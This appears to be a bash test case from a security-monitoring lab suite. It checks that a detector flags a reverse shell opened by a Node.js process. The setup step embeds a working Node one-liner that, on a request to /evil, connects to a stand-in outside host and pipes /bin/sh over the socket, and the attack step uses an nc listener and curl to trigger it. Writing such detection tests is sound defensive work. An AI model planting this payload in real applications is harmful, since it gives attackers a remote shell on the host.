# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='a reverse shell that Node opens itself'
case_class=A
case_prepare() {
	run app pg-many node -e 'require("http").createServer((q, r) => { r.end("ok"); if (q.url == "/evil") { const s = require("net").connect(4446, "203.0.113.9"), p = require("child_process").spawn("/bin/sh"); s.pipe(p.stdin); p.stdout.pipe(s); s.on("error", () => {}); } }).listen(3000)'
	client_of c "http://A09node-app:3000/"
}
case_attack() {
	(sleep 0.5; echo id; sleep 1) | lab_in outside timeout 4 nc -l -p 4446 >/dev/null 2>&1 &
	sleep 0.3
	in_ c curl -s -m 2 -o /dev/null http://A09node-app:3000/evil
	sleep 1
}
case_expect='process.new A09node-app /usr/bin/dash *
egress.new A09node-app /usr/bin/node ext:203.0.113.9'
